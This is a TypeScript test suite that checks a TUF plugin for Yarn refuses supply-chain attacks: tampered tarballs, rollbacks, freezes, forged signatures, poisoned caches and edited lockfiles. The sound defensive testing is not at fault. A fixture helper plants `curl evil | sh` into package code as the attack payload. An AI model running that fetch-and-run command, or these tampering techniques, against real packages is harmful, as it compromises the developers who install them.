import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { readFile, writeFile, mkdir } from 'node:fs/promises';
import { join } from 'node:path';
import { execFileSync, spawn } from 'node:child_process';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { buildPackageTarball, tarballFile, targetPathFor } from '@tufpm/registry';
import { createAttackWorld, createExpiredTimestampWorld, createSignerWorld, publishNativePair, withMixedRoleFile, withOverLengthTimestamp } from '../src/harness/attack-worlds.js';
import { NpmWorld } from '../src/harness/npm-world.js';
import { refusedYarn } from '../src/harness/attacks-graph.js';
import { YarnProject } from '../src/harness/yarn.js';
import { PATCH, archiveOf, poison, poisonCachedArchive, publishPatchable } from '../src/harness/yarn-archives.js';
import { publishClaimedWithOnlineKeys, rollbackTargetsPastClaimInWorld, unclaimAndPublishInBin } from '../src/harness/attacks-signer.js';

// The TUF attack list against real Yarn 4 with the tufpm plugin, one test per attack. Every refused install
// must exit 1 with a coded Yarn message naming the TUF code, the package and the attack, and leave
// yarn.lock, tufpm-lock.json, .pnp.cjs, the install state and node_modules exactly as they were.

const evilTarball = (name: string, version: string): Uint8Array =>
  buildPackageTarball({ name, version, files: { 'index.js': 'require("child_process").exec("curl evil | sh")\n' } });

describe('Yarn with the tufpm plugin refuses the TUF attacks', () => {
  let world: NpmWorld;
  const maintainers = [NpmWorld.maintainer(), NpmWorld.maintainer()] as const;

  before(async () => {
    world = await createAttackWorld(maintainers);
  });
  after(() => world.close());

  test('rejects a rollback to targets from before a claim on the first install after init', async () => {
    const alice = NpmWorld.maintainer();
    await world.claim('floored', [alice], 1);
    await world.publish('floored', '1.0.0', {}, [alice.signer]);
    const project = await YarnProject.create(world, { floored: '^1.0.0' });
    const init = await project.yarn(['tuf', 'init']);
    assert.equal(init.code, 0, init.stdout);
    const lock = JSON.parse((await project.read('tufpm-lock.json'))!) as { claims: Record<string, { threshold: number }>; packages: Record<string, unknown> };
    assert.deepEqual(Object.keys(lock.claims), ['floored'], 'yarn tuf init recorded the claim of the project\'s package');
    assert.equal(lock.claims['floored']!.threshold, 1);
    assert.deepEqual(lock.packages, {});
    const bare = await YarnProject.create(world, { floored: '^1.0.0' });
    const attack = await rollbackTargetsPastClaimInWorld(world, 'floored', '1.0.1');
    try {
      await refusedYarn(project, ['install'], /TUF_ROLLBACK|TUF_PIN_ROLLBACK/);
      await project.freshMachine();
      await refusedYarn(project, ['install'], /TUF_PIN_ROLLBACK/, /targets/, /attack: rollback of targets/);
      // The attack is real: a project that never ran `yarn tuf init` takes the forged release.
      const taken = await bare.yarn(['install']);
      assert.equal(taken.code, 0, taken.stdout);
      assert.match((await bare.read('yarn.lock'))!, /floored@npm:1\.0\.1/);
    } finally {
      await attack.restore();
    }
  });

  test('rejects a package claimed at init that is now served from an unclaimed bin (first install)', async () => {
    const alice = NpmWorld.maintainer();
    await world.claim('dropclaim', [alice], 1);
    await world.publish('dropclaim', '1.0.0', {}, [alice.signer]);
    const project = await YarnProject.create(world, { dropclaim: '^1.0.0' });
    const init = await project.yarn(['tuf', 'init']);
    assert.equal(init.code, 0, init.stdout);
    await unclaimAndPublishInBin(world, 'dropclaim', '1.0.1');
    await project.freshMachine();
    await refusedYarn(project, ['install'], /TUF_CLAIM_DROPPED/, /package dropclaim@1\.0\.1/, /attack: claim dropped/);
  });

  test('rejects a tampered tarball before Yarn unpacks it', async () => {
    await world.publish('victim', '1.0.0');
    await world.replaceTarball('victim', '1.0.0', evilTarball('victim', '1.0.0'));
    const project = await YarnProject.create(world, { left: '^1.0.0', victim: '1.0.0' });
    await refusedYarn(project, ['install'], /TUF_TARBALL_MISMATCH/, /package victim@1\.0\.0/, /role unclaimed-/, /attack: tampered tarball/);
    for (const where of ['cache', 'mirror'] as const) {
      assert.ok(!(await project.archives(where)).some((f) => f.startsWith('victim-')), `no victim archive in the ${where}`);
    }
  });

  test('yarn add of a tampered package leaves package.json, yarn.lock, the pins and node_modules as they were', async () => {
    const project = await YarnProject.create(world, { right: '1.0.0' }, { rc: { nodeLinker: 'node-modules' } });
    assert.equal((await project.yarn(['install'])).code, 0);
    assert.ok((await project.state()).nodeModules.includes('right'));
    const manifest = await project.read('package.json');
    await world.publish('added', '1.0.0');
    await world.replaceTarball('added', '1.0.0', evilTarball('added', '1.0.0'));
    await refusedYarn(project, ['add', 'added@1.0.0'], /TUF_TARBALL_MISMATCH/, /package added@1\.0\.0/);
    assert.equal(await project.read('package.json'), manifest);
  });

  test('rejects a package version missing from its role (arbitrary package), also when Yarn picks it as latest', async () => {
    await world.publish('righty', '1.0.0');
    await world.publish('lefty', '1.0.0', { righty: '^1.0.0' });
    await world.publishUnsigned('righty', '1.1.0');
    const project = await YarnProject.create(world, { lefty: '^1.0.0' });
    await refusedYarn(project, ['install'], /TUF_PACKAGE_NOT_SIGNED/, /package righty@1\.1\.0/, /attack: arbitrary package/);
  });

  test('rejects extraneous dependencies added to the packument by the registry', async () => {
    await world.publish('yhelper', '1.0.0');
    await world.publish('yhost', '1.0.0', { right: '^1.0.0' });
    await world.addPackumentDependency('yhost', '1.0.0', 'yhelper', '^1.0.0');
    const project = await YarnProject.create(world, { yhost: '1.0.0' });
    await refusedYarn(project, ['install'], /TUF_EXTRANEOUS_DEPENDENCY/, /package yhost@1\.0\.0/, /attack: extraneous dependencies/,
      /dependencies yhelper@\^1\.0\.0 is not declared by the signed package/);
    // Nothing was linked (refusedYarn() compares .pnp.cjs and node_modules). yhelper is a signed package in its own
    // right: its verified archive may reach Yarn's cache while yhost is being checked, as in any failed install.
  });

  test('rejects a dependency added to yarn.lock by a pull request (yarn install --immutable)', async () => {
    await world.publish('ylhelper', '1.0.0');
    await world.publish('ylhost', '1.0.0', { right: '^1.0.0' });
    const project = await YarnProject.create(world, { ylhost: '1.0.0' });
    assert.equal((await project.yarn(['install'])).code, 0);
    // The pull request copies a genuine, checksummed ylhelper entry and makes ylhost depend on it.
    const other = await YarnProject.create(world, { ylhelper: '1.0.0' });
    assert.equal((await other.yarn(['install'])).code, 0);
    const helperEntry = /\n"ylhelper@npm:1\.0\.0":\n(?: {2}.*\n)+/.exec((await other.read('yarn.lock'))!)![0];
    const lock = (await project.read('yarn.lock'))!;
    const edited = lock
      .replace('\n"ylhost@npm:1.0.0":', `${helperEntry.trimEnd()}\n\n"ylhost@npm:1.0.0":`)
      .replace('    right: "npm:^1.0.0"\n', '    right: "npm:^1.0.0"\n    ylhelper: "npm:1.0.0"\n');
    assert.notEqual(edited, lock);
    await project.write('yarn.lock', edited);
    await project.freshMachine();
    await refusedYarn(project, ['install', '--immutable'], /TUF_EXTRANEOUS_DEPENDENCY/, /package ylhost@1\.0\.0/, /attack: extraneous dependencies/,
      /dependencies ylhelper@1\.0\.0 is not declared by the signed package/);
    const check = await project.yarn(['tuf', 'verify']);
    assert.equal(check.code, 1, check.stdout);
    assert.match(check.stdout, /TUF_EXTRANEOUS_DEPENDENCY/, 'yarn tuf verify reports it too');
  });

  test('rejects a tarball signed by the wrong maintainer key', async () => {
    const owner = NpmWorld.maintainer();
    const intruder = NpmWorld.maintainer();
    await world.claim('solo', [owner], 1);
    await world.publish('solo', '1.0.0', {}, [owner.signer]);
    const forged = await world.publishUnsigned('solo', '1.0.1');
    await world.forgeRoleTarget('solo', 'solo', '1.0.1', forged, [intruder.signer]);
    const project = await YarnProject.create(world, { solo: '1.0.1' });
    await refusedYarn(project, ['install'], /TUF_THRESHOLD/, /package solo\b/, /attack: metadata not signed by enough trusted keys/);
  });

  test('rejects a release signed with one compromised key of a 2-of-2 package', async () => {
    const forged = await world.publishUnsigned('guarded', '1.0.1');
    await world.forgeRoleTarget('guarded', 'guarded', '1.0.1', forged, [maintainers[0]!.signer]);
    const project = await YarnProject.create(world, { guarded: '^1.0.0' });
    await refusedYarn(project, ['install'], /TUF_THRESHOLD/, /package guarded\b/);
  });

  test('rejects a release signed with a revoked maintainer key', async () => {
    const [gone, kept] = [NpmWorld.maintainer(), NpmWorld.maintainer()];
    await world.claim('rotated', [gone, kept], 1);
    await world.publish('rotated', '1.0.0', {}, [gone.signer]);
    await world.repo.revokeKey('rotated', gone.key.keyid, { threshold: 1 });
    const forged = await world.publishUnsigned('rotated', '1.0.1');
    await world.forgeRoleTarget('rotated', 'rotated', '1.0.1', forged, [gone.signer]);
    const project = await YarnProject.create(world, { rotated: '1.0.1' });
    await refusedYarn(project, ['install'], /TUF_THRESHOLD/, /package rotated\b/);
  });

  test('rejects a snapshot rollback on a fresh machine with pins (yarn install --immutable)', async () => {
    const oldTimestamp = await world.readMetadata('timestamp.json');
    await world.publish('fresh', '1.0.0');
    const project = await YarnProject.create(world, { fresh: '^1.0.0', left: '^1.0.0' });
    const install = await project.yarn(['install']);
    assert.equal(install.code, 0, install.stdout);
    const current = await world.readMetadata('timestamp.json');
    try {
      await world.writeMetadata('timestamp.json', oldTimestamp);
      await project.freshMachine();
      await refusedYarn(project, ['install', '--immutable'], /TUF_PIN_ROLLBACK/, /role timestamp/, /attack: rollback/);
    } finally {
      await world.writeMetadata('timestamp.json', current);
    }
    const again = await project.yarn(['install', '--immutable']);
    assert.equal(again.code, 0, `the real state installs again\n${again.stdout}`);
  });

  test('rejects a pinned version re-signed with other bytes (compromised online key) on a fresh machine', async () => {
    const { role } = await world.publish('pinned', '1.0.0');
    const project = await YarnProject.create(world, { pinned: '1.0.0' });
    assert.equal((await project.yarn(['install'])).code, 0);
    // The registry's online key signs the unclaimed bins: with it, an attacker can sign new bytes for an
    // existing version. A fresh TUF client would accept them; the committed pins do not.
    await world.forgeRoleTarget(role, 'pinned', '1.0.0', evilTarball('pinned', '1.0.0'), await world.repo.signersFor(role));
    await project.freshMachine();
    await refusedYarn(project, ['install', '--immutable'], /TUF_PIN_MISMATCH/, /package pinned@1\.0\.0/, /attack: substituted package/);
  });

  test('rejects mix-and-match: a role file of another version than the snapshot lists', async () => {
    await withMixedRoleFile(world, 'mixed', '1.0.1', async () => {
      const project = await YarnProject.create(world, { mixed: '1.0.1' });
      await refusedYarn(project, ['install'], /TUF_VERSION_MISMATCH|TUF_HASH|TUF_LENGTH/, /package mixed@1\.0\.1/);
    });
  });

  test('rejects over-length metadata (endless data)', async () => {
    await withOverLengthTimestamp(world, async () => {
      const project = await YarnProject.create(world, { left: '^1.0.0' });
      await refusedYarn(project, ['install'], /TUF_LENGTH/, /attack: endless data/);
    });
  });

  test('rejects a poisoned Yarn mirror, even for a new project without pins', async () => {
    const first = await YarnProject.create(world, { left: '^1.0.0' });
    assert.equal((await first.yarn(['install'])).code, 0);
    const mirrored = await archiveOf(first.mirrorFolder, 'right-npm-1.0.0-');
    await writeFile(mirrored, poison(await readFile(mirrored)));
    // Another project on the same machine: Yarn would copy the poisoned archive from the mirror unchecked.
    const second = await YarnProject.create(world, { right: '1.0.0' }, { machine: first.machine });
    await refusedYarn(second, ['install'], /TUF_CHECKSUM_BINDING/, /package right@1\.0\.0/, /attack: poisoned cache or mirror/);
    // Control: plain Yarn on that machine installs the poisoned archive and runs its code.
    const plain = await YarnProject.create(world, { right: '1.0.0' }, { machine: first.machine, plugin: false });
    assert.equal((await plain.yarn(['install'])).code, 0);
    assert.equal((await plain.yarn(['node', '-e', 'require("right")'])).code, 66, 'the poisoned code ran without the plugin');
  });

  test('rejects a poisoned global cache (enableGlobalCache: true, Yarn\'s default) for another project', async () => {
    const rc = { enableGlobalCache: true };
    const first = await YarnProject.create(world, { left: '^1.0.0' }, { rc });
    assert.equal((await first.yarn(['install'])).code, 0, 'global cache install');
    const cached = await archiveOf(first.cacheFolder, 'right-npm-1.0.0-');
    await writeFile(cached, poison(await readFile(cached)));
    const second = await YarnProject.create(world, { right: '1.0.0' }, { rc, machine: first.machine });
    await refusedYarn(second, ['install'], /TUF_CHECKSUM_BINDING/, /package right@1\.0\.0/);
  });

  test('rejects a poisoned Yarn cache whose yarn.lock checksum was edited to match', async () => {
    const project = await YarnProject.create(world, { left: '^1.0.0' });
    assert.equal((await project.yarn(['install'])).code, 0);
    const { oldSum, newSum } = await poisonCachedArchive(project.cacheFolder, 'right-npm-1.0.0-');
    const lock = (await project.read('yarn.lock'))!;
    assert.ok(lock.includes(oldSum));
    await project.write('yarn.lock', lock.replace(oldSum, newSum));
    await refusedYarn(project, ['install'], /TUF_CHECKSUM_BINDING/, /package right@1\.0\.0/);
  });

  test('rejects a poisoned cache archive whose checksum a pull request also wrote into yarn.lock and tufpm-lock.json', async () => {
    const project = await YarnProject.create(world, { left: '^1.0.0' });
    assert.equal((await project.yarn(['install'])).code, 0);
    const { oldSum, newSum } = await poisonCachedArchive(project.cacheFolder, 'right-npm-1.0.0-');
    // The pull request edits every checksum in the project; the pins keep the real signed sha512.
    await project.write('yarn.lock', (await project.read('yarn.lock'))!.replace(oldSum, newSum));
    const pins = (await project.read('tufpm-lock.json'))!;
    assert.ok(pins.includes(oldSum), 'the pins bind the archive checksum');
    await project.write('tufpm-lock.json', pins.replace(oldSum, newSum));
    await refusedYarn(project, ['install'], /TUF_CHECKSUM_BINDING/, /package right@1\.0\.0/);
  });

  test('rejects a poisoned cache archive of a platform-conditional package (yarn.lock keeps no checksum for it)', async () => {
    await publishNativePair(world, 'host');
    const project = await YarnProject.create(world, { host: '1.0.0' });
    assert.equal((await project.yarn(['install'])).code, 0);
    assert.match((await project.read('yarn.lock'))!, /conditions: os=/);
    const cached = await archiveOf(project.cacheFolder, `native-${process.platform}-npm-1.0.0-`);
    await writeFile(cached, poison(await readFile(cached)));
    await refusedYarn(project, ['install'], /TUF_CHECKSUM_BINDING/, new RegExp(`package native-${process.platform}@1\\.0\\.0`));
  });

  test('rejects a poisoned patched archive (patch: protocol) whose yarn.lock checksum was edited to match', async () => {
    await publishPatchable(world, 'patchme');
    const project = await YarnProject.create(world, { patchme: 'patch:patchme@npm%3A1.0.0#./patchme.patch' });
    await project.write('patchme.patch', PATCH);
    const install = await project.yarn(['install']);
    assert.equal(install.code, 0, install.stdout);
    assert.match((await project.yarn(['node', '-p', 'require("patchme")'])).stdout, /patched/);
    // The patched archive was compared once and is bound on this machine (ADR 0020): not rebuilt again.
    const warm = await project.yarn(['install']);
    assert.equal(warm.code, 0, warm.stdout);
    assert.doesNotMatch(warm.stdout, /were rebuilt from verified tarballs/, 'a bound patched archive is not rebuilt');
    const { oldSum, newSum } = await poisonCachedArchive(project.cacheFolder, 'patchme-patch-');
    const lock = (await project.read('yarn.lock'))!;
    assert.ok(lock.includes(oldSum));
    await project.write('yarn.lock', lock.replace(oldSum, newSum));
    await refusedYarn(project, ['install'], /TUF_CHECKSUM_BINDING/, /package patchme@1\.0\.0/, /patched archive differs/);
  });

  test('rejects an edited yarn.lock checksum, and yarn tuf verify reports it', async () => {
    const project = await YarnProject.create(world, { left: '^1.0.0' });
    assert.equal((await project.yarn(['install'])).code, 0);
    const lock = (await project.read('yarn.lock'))!;
    const edited = lock.replace(/(resolution: "right@npm:1\.0\.0"\n {2}checksum: 10c0\/)[0-9a-f]{8}/, '$1deadbeef');
    assert.notEqual(edited, lock);
    await project.write('yarn.lock', edited);
    await refusedYarn(project, ['install'], /TUF_CHECKSUM_BINDING/, /package right@1\.0\.0/, /attack: poisoned cache or mirror, or an edited yarn\.lock checksum/);
    const verify = await project.yarn(['tuf', 'verify']);
    assert.equal(verify.code, 1, verify.stdout);
    assert.match(verify.stdout, /TUF_CHECKSUM_BINDING/);
  });

  test('refuses git, file and remote-URL dependencies unless unsafeTufAllowNonRegistry allows them', async () => {
    const local = await world.tempDir('local-');
    await mkdir(local, { recursive: true });
    await writeFile(join(local, 'package.json'), JSON.stringify({ name: 'local', version: '1.0.0' }));
    const project = await YarnProject.create(world, { local: `file:${local}`, right: '1.0.0' });
    await refusedYarn(project, ['install'], /TUF_UNSAFE_SOURCE/, /package local/, /attack: unverifiable source/);
    await project.writeRc({ unsafeTufAllowNonRegistry: ['local'] });
    const allowed = await project.yarn(['install']);
    assert.equal(allowed.code, 0, allowed.stdout);
    assert.match(allowed.stdout, /YN0000: .*TUF: UNSAFE, not verified: local@file:.*\(unsafeTufAllowNonRegistry\)/);
    // a git dependency (a local repository served by `git daemon`: no network beyond 127.0.0.1) and a tarball
    // URL that is not the registry's are refused too
    const base = await world.tempDir('git-');
    const repoDir = join(base, 'gitdep');
    await mkdir(repoDir);
    await writeFile(join(repoDir, 'package.json'), JSON.stringify({ name: 'gitdep', version: '1.0.0' }));
    const git = (...args: string[]): void => void execFileSync('git', ['-c', 'user.name=t', '-c', 'user.email=t@t', ...args], { cwd: repoDir, stdio: 'ignore' });
    git('init', '-q');
    git('add', 'package.json');
    git('commit', '-q', '-m', 'v1');
    const free = createServer();
    await new Promise<void>((resolve) => free.listen(0, '127.0.0.1', resolve));
    const gitPort = (free.address() as AddressInfo).port;
    await new Promise((resolve) => free.close(resolve));
    const daemon = spawn('git', ['daemon', '--export-all', `--base-path=${base}`, `--port=${gitPort}`, '--listen=127.0.0.1', '--reuseaddr'], { stdio: 'ignore' });
    const repo = `127.0.0.1:${gitPort}/gitdep`;
    for (let i = 0; i < 50; i++) {
      try {
        execFileSync('git', ['ls-remote', `git://${repo}`], { stdio: 'ignore' });
        break;
      } catch (error) {
        if (typeof (error as { status?: unknown }).status !== 'number') throw error;
        await new Promise((r) => setTimeout(r, 100)); // git exited non-zero: the daemon is not listening yet
      }
    }
    const bytes = await readFile(tarballFile(world.registryDir, targetPathFor('right', '1.0.0')));
    const server = createServer((_req, res) => void res.end(bytes));
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    try {
      const remote = `http://127.0.0.1:${(server.address() as AddressInfo).port}/downloads/right.tgz`;
      for (const [dep, spec] of [['gitdep', `git://${repo}`], ['remote', remote]] as const) {
        // Yarn 4.18 blocks git sources unless approvedGitRepositories allows them: allow all, so the plugin answers
        const other = await YarnProject.create(world, { [dep]: spec }, { rc: { approvedGitRepositories: ['**'] } });
        await refusedYarn(other, ['install'], /TUF_UNSAFE_SOURCE/, new RegExp(`package ${dep}\\b`), /attack: unverifiable source/);
      }
    } finally {
      daemon.kill();
      await new Promise((resolve) => server.close(resolve));
    }
  });

  test('unsafeTufUnverifiedPackages skips only the packages it names, and says so on every install', async () => {
    await world.publish('exempted', '1.0.0');
    await world.replaceTarball('exempted', '1.0.0', evilTarball('exempted', '1.0.0'));
    const project = await YarnProject.create(world, { exempted: '1.0.0', left: '^1.0.0' }, { rc: { unsafeTufUnverifiedPackages: ['exempted'] } });
    const res = await project.yarn(['install']);
    assert.equal(res.code, 0, res.stdout);
    assert.match(res.stdout, /TUF: UNSAFE, not verified: exempted@1\.0\.0 \(unsafeTufUnverifiedPackages\)/);
    const pins = JSON.parse((await project.read('tufpm-lock.json'))!) as { packages: Record<string, unknown> };
    assert.deepEqual(Object.keys(pins.packages).sort(), ['left@1.0.0', 'right@1.0.0'], 'an exempted package is never pinned');
  });

  test('tufMode: unsafe-warn reports a tampered tarball but does not move the pins', async () => {
    await world.publish('warned', '1.0.0');
    await world.replaceTarball('warned', '1.0.0', evilTarball('warned', '1.0.0'));
    const project = await YarnProject.create(world, { warned: '1.0.0' }, { rc: { tufMode: 'unsafe-warn' } });
    const res = await project.yarn(['install']);
    assert.equal(res.code, 0, res.stdout);
    assert.match(res.stdout, /YN0000: .*\(tufMode: unsafe-warn\) TUF_TARBALL_MISMATCH/);
    assert.equal(await project.read('tufpm-lock.json'), undefined, 'no pins from a failed verification');
  });

  test('rejects a pull request that weakens the plugin without an unsafe name (tufMode: warn, tufLockfileFilename)', async () => {
    await world.publish('weakened', '1.0.0');
    await world.replaceTarball('weakened', '1.0.0', evilTarball('weakened', '1.0.0'));
    // the old spelling of unsafe-warn: it would install the tampered tarball
    const warned = await YarnProject.create(world, { weakened: '1.0.0' }, { rc: { tufMode: 'warn' } });
    await refusedYarn(warned, ['install'], /TUF_UNSAFE_SETTING/, /unsafe-warn/);
    // pointing the pins at a fresh file would drop every floor and claim of tufpm-lock.json: no such setting
    // without the unsafe name, and Yarn refuses a setting no plugin declares
    const renamed = await YarnProject.create(world, { weakened: '1.0.0' }, { rc: { tufLockfileFilename: 'other-lock.json' } });
    const res = await renamed.yarn(['install']);
    assert.notEqual(res.code, 0);
    assert.match(`${res.stdout}${res.stderr}`, /Unrecognized or legacy configuration settings found: tufLockfileFilename/);
    assert.equal(await renamed.read('other-lock.json'), undefined);
  });
});

describe('Yarn with the tufpm plugin refuses an expired timestamp (freeze)', () => {
  let world: NpmWorld;
  before(async () => {
    world = await createExpiredTimestampWorld();
  });
  after(() => world.close());

  test('rejects an expired timestamp (freeze attack)', async () => {
    const project = await YarnProject.create(world, { left: '^1.0.0' });
    await refusedYarn(project, ['install'], /TUF_EXPIRED/, /timestamp v\d+ expired/, /attack: freeze/);
  });
});

describe('Yarn with the tufpm plugin: who signs a package (maintainers offline, registry online)', () => {
  let world: NpmWorld;
  const [alice, bob] = [NpmWorld.maintainer(), NpmWorld.maintainer()];

  before(async () => {
    world = await createSignerWorld(alice, bob);
  });
  after(() => world.close());

  const pinsOf = async (project: YarnProject): Promise<Record<string, { role: string; maintainerSigned: boolean }>> =>
    (JSON.parse((await project.read('tufpm-lock.json'))!) as { packages: Record<string, { role: string; maintainerSigned: boolean }> }).packages;

  test('rejects a new version of a claimed package published with every online key (registry compromise)', async () => {
    await publishClaimedWithOnlineKeys(world, 'seized', '1.0.1');
    const project = await YarnProject.create(world, { seized: '^1.0.0' });
    await refusedYarn(project, ['install'], /TUF_PACKAGE_NOT_SIGNED/, /package seized@1\.0\.1/, /attack: arbitrary package/);
  });

  test('rejects a package maintainer-signed in the pins that is now registry-signed (downgrade)', async () => {
    const project = await YarnProject.create(world, { downgraded: '1.0.0' });
    assert.equal((await project.yarn(['install'])).code, 0);
    assert.equal((await pinsOf(project))['downgraded@1.0.0']!.maintainerSigned, true);
    await unclaimAndPublishInBin(world, 'downgraded', '1.0.1');
    await refusedYarn(project, ['add', 'downgraded@1.0.1'], /TUF_SIGNER_DOWNGRADE/, /package downgraded@1\.0\.1/, /attack: downgrade from maintainer signing/);
  });

  test('policy requireMaintainerSigned refuses a registry-signed package', async () => {
    const rc = { tufRequireMaintainerSigned: ['*'] };
    const refusedProject = await YarnProject.create(world, { right: '1.0.0' }, { rc });
    await refusedYarn(refusedProject, ['install'], /TUF_NOT_MAINTAINER_SIGNED/, /package right@1\.0\.0/, /attack: package not signed by its maintainers/);
    const claimed = await YarnProject.create(world, { owned: '1.0.0' }, { rc: { tufRequireMaintainerSigned: ['owned', '@acme/*'] } });
    const res = await claimed.yarn(['install']);
    assert.equal(res.code, 0, `a claimed package passes the policy\n${res.stdout}`);
  });

  test('policy minimumThreshold refuses a 1-of-1 claimed package when 2 signatures are required', async () => {
    const rc = { tufRequireMaintainerSigned: ['*'], tufMinimumThreshold: 2 };
    const single = await YarnProject.create(world, { owned: '1.0.0' }, { rc });
    await refusedYarn(single, ['install'], /TUF_NOT_MAINTAINER_SIGNED/, /owned@1\.0\.0: its role owned needs 1 signature\(s\), policy requires at least 2/);
    const res = await (await YarnProject.create(world, { pair: '1.0.0' }, { rc })).yarn(['install']);
    assert.equal(res.code, 0, `a 2-of-2 package passes\n${res.stdout}`);
  });

  test('claim then install: a package claimed after it was first installed from its bin is pinned maintainer-signed', async () => {
    await world.publish('late', '1.0.0');
    const project = await YarnProject.create(world, { late: '1.0.0', right: '1.0.0' });
    assert.equal((await project.yarn(['install'])).code, 0);
    assert.match((await pinsOf(project))['late@1.0.0']!.role, /^unclaimed-/);
    const before = await project.yarn(['tuf', 'status']);
    assert.match(before.stdout, /packages +2 npm packages in yarn\.lock: 0 maintainer-signed, 2 registry-signed/);
    await world.claim('late', [alice], 1);
    const res = await project.yarn(['install']);
    assert.equal(res.code, 0, res.stdout);
    assert.deepEqual((await pinsOf(project))['late@1.0.0'], { ...(await pinsOf(project))['late@1.0.0'], role: 'late', maintainerSigned: true });
    const status = await project.yarn(['tuf', 'status', '--json']);
    const json = JSON.parse(status.stdout.trim().split('\n').find((l) => l.includes('"maintainerSigned"'))!) as { packages: unknown };
    assert.deepEqual(json.packages, { total: 2, maintainerSigned: 1, registrySigned: 1, failed: [] });
  });
});
